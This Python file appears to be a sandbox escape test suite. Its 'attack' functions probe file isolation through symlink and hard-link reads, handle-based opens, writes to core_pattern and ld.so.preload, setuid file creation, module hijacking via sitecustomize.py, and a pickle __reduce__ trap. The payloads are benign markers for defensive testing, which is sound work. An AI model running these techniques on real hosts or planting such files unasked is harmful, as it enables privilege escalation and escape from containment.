"""Attacks on files: reading what is not granted, writing outside, planting what somebody will execute or follow."""

from __future__ import annotations

import ctypes
import os
import pickle
import site
import tempfile
from pathlib import Path
from typing import Any

from attacks import Facts, Stopped, attack

libc = ctypes.CDLL(None, use_errno=True)


def sought(text: str, facts: Facts) -> None:
    if facts["needle"] not in text:
        raise Stopped("it can be read, and the secret is not in it")


def outside(facts: Facts) -> Path:
    return Path(facts["outside"]) / "file"


@attack
def read_a_file_outside(facts: Facts) -> None:
    sought(outside(facts).read_text(), facts)


@attack
def list_a_folder_outside(facts: Facts) -> None:
    os.listdir(facts["outside"])


@attack
def read_through_a_link(facts: Facts) -> None:
    link = Path(facts["workspace"]) / "link-out"
    link.symlink_to(outside(facts))
    try:
        sought(link.read_text(), facts)
    finally:
        link.unlink()


@attack
def read_through_a_hard_link(facts: Facts) -> None:
    link = Path(facts["workspace"]) / "hard-link-out"
    os.link(outside(facts), link)
    try:
        sought(link.read_text(), facts)
    finally:
        link.unlink()


@attack
def read_through_our_own_root(facts: Facts) -> None:
    sought(Path(f"/proc/self/root{outside(facts)}").read_text(), facts)


@attack
def read_through_a_handle(facts: Facts) -> None:
    """Handles lead to files by their number on the disk, past every folder."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    folder = os.open(facts["workspace"], os.O_RDONLY)
    call(libc.name_to_handle_at, -100, os.fsencode(outside(facts)), handle, ctypes.byref(mount), 0)
    os.close(call(libc.open_by_handle_at, folder, handle, os.O_RDONLY))


def call(function: Any, *arguments: Any) -> int:
    answer = function(*arguments)
    if answer == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return int(answer)


@attack
def read_another_kernels_connection(facts: Facts) -> None:
    (Path(facts["other"]) / "kernel.json").read_text()


@attack
def write_into_another_kernels_folder(facts: Facts) -> None:
    new_file_in(facts["other"])


def new_file_in(folder: str) -> None:
    descriptor, path = tempfile.mkstemp(dir=folder)
    os.close(descriptor)
    os.unlink(path)


@attack
def make_a_file_outside(facts: Facts) -> None:
    new_file_in(facts["outside"])


@attack
def open_a_file_outside_for_writing(facts: Facts) -> None:
    os.close(os.open(outside(facts), os.O_WRONLY))


@attack
def empty_a_file_outside(facts: Facts) -> None:
    """To the length that it has."""
    os.truncate(outside(facts), len(facts["needle"]))


@attack
def remove_a_file_outside(facts: Facts) -> None:
    """By a rename to its own name, which is judged in the same way and does nothing."""
    os.rename(outside(facts), outside(facts))


@attack
def move_a_file_outside(facts: Facts) -> None:
    inside = Path(facts["workspace"]) / "to-move"
    inside.write_text("x")
    moved = Path(facts["outside"]) / "moved"
    try:
        inside.rename(moved)
        moved.unlink()
    finally:
        inside.unlink(missing_ok=True)


@attack
def make_a_folder_in_the_home(facts: Facts) -> None:
    path = tempfile.mkdtemp(dir=os.path.expanduser("~"))
    os.rmdir(path)


@attack
def change_the_mode_of_a_file_outside(facts: Facts) -> None:
    os.chmod(outside(facts), os.stat(outside(facts)).st_mode & 0o7777)


@attack
def change_the_owner_of_a_file_outside(facts: Facts) -> None:
    os.chown(outside(facts), -1, os.stat(outside(facts)).st_gid)


@attack
def change_the_times_of_a_file_outside(facts: Facts) -> None:
    status = os.stat(outside(facts))
    os.utime(outside(facts), ns=(status.st_atime_ns, status.st_mtime_ns))


@attack
def give_an_attribute_to_a_file_outside(facts: Facts) -> None:
    os.setxattr(outside(facts), "user.attack", b"x")
    os.removexattr(outside(facts), "user.attack")


@attack
def see_the_size_of_a_file_outside(facts: Facts) -> None:
    os.stat(outside(facts))


@attack
def open_core_pattern_for_writing(facts: Facts) -> None:
    """A program named there is run by the system as root, outside of everything."""
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))


@attack
def open_other_ways_to_a_program_of_the_system(facts: Facts) -> None:
    ways = (
        "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper",
        "/proc/sysrq-trigger",
        "/etc/ld.so.preload",
    )
    reasons = set()
    for way in ways:
        try:
            os.close(os.open(way, os.O_WRONLY))
        except OSError as error:
            reasons.add(error.strerror or "")
        else:
            return
    raise Stopped(", ".join(sorted(reasons)))


@attack
def open_a_disk(facts: Facts) -> None:
    disks = [f"/dev/{name}" for name in os.listdir("/dev") if name.startswith(("vd", "sd", "nvme", "kmsg"))]
    if not disks:
        raise Stopped("there is none")
    os.close(os.open(disks[0], os.O_RDONLY))


@attack
def make_a_device(facts: Facts) -> None:
    path = Path(facts["workspace"]) / "device"
    os.mknod(path, 0o600 | 0o060000, os.makedev(254, 0))
    path.unlink()


@attack
def make_a_program_that_lends_its_owners_rights(facts: Facts) -> None:
    """In a workspace that is lent, its owner: root, for any other user of the machine who then executes it."""
    path = Path(facts["workspace"]) / "lender"
    path.write_text("")
    try:
        path.chmod(0o4755)
    finally:
        path.unlink()


@attack
def open_a_program_that_lends_its_owners_rights(facts: Facts) -> None:
    path = f"{facts['workspace']}/lender"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))
    os.unlink(path)


@attack
def open_one_in_the_new_way(facts: Facts) -> None:
    path = f"{facts['workspace']}/lender"
    how = (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_WRONLY, 0o4755, 0)
    os.close(call(libc.syscall, 437, -100, path.encode(), how, ctypes.sizeof(how)))
    os.unlink(path)


@attack
def make_a_file_in_a_folder_that_lends_its_group(facts: Facts) -> None:
    path = Path(facts["workspace"]) / "lender"
    path.mkdir(0o2777)
    try:
        if not path.stat().st_mode & 0o2000:
            path.chmod(0o2777)
    finally:
        path.rmdir()


@attack
def watch_a_folder_outside(facts: Facts) -> None:
    """It tells the names of what is used there."""
    watch = libc.inotify_init()
    call(libc.inotify_add_watch, watch, os.fsencode(facts["outside"]), 0xFFF)
    os.close(watch)


PLANTED = """
import os
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'ran-' + str(os.getpid())), 'w') as file:
    file.write(open('/proc/self/status').read())
"""


@attack
def plant_a_module(facts: Facts) -> str:
    """Modules that a careless program of the host's would import from the workspace."""
    for name in ("json.py", "ctypes.py", "sitecustomize.py"):
        (Path(facts["workspace"]) / name).write_text(PLANTED)
    return (
        "left: json.py, ctypes.py and sitecustomize.py in the workspace, which make a file ran-PID where they run, "
        "with the status of the process"
    )


@attack
def plant_a_pth_file(facts: Facts) -> None:
    """One in the running environment is executed by each Python that starts there."""
    new_file_in(site.getsitepackages()[0])


@attack
def write_protected_files(facts: Facts) -> None:
    reasons = set()
    for path in facts["protected"]:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError as error:
            reasons.add(error.strerror or "")
        else:
            return
    raise Stopped(", ".join(sorted(reasons)))


@attack
def replace_protected_files(facts: Facts) -> None:
    """By moving the folder away that they lie in."""
    folder = Path(facts["protected"][0]).parent
    moved = folder.with_name(folder.name + "-moved")
    folder.rename(moved)
    moved.rename(folder)


@attack
def plant_a_link_in_the_run_folder(facts: Facts) -> str:
    for name in os.listdir(facts["run"]):
        path = Path(facts["run"]) / name
        if path.is_file() and not path.is_symlink():
            path.unlink()
            path.symlink_to(outside(facts))
    (Path(facts["run"]) / "planted").symlink_to(outside(facts))
    return "left: links to the file outside, in the run folder"


class Trap:
    """What runs when somebody unpickles it."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return open, (self.marker, "w")


@attack
def plant_a_pickle(facts: Facts) -> str:
    for folder in (facts["workspace"], facts["run"]):
        (Path(folder) / "value.pickle").write_bytes(pickle.dumps(Trap(f"{facts['workspace']}/unpickled")))
    return "left: value.pickle in the workspace and in the run folder, which makes a file unpickled when it is read"
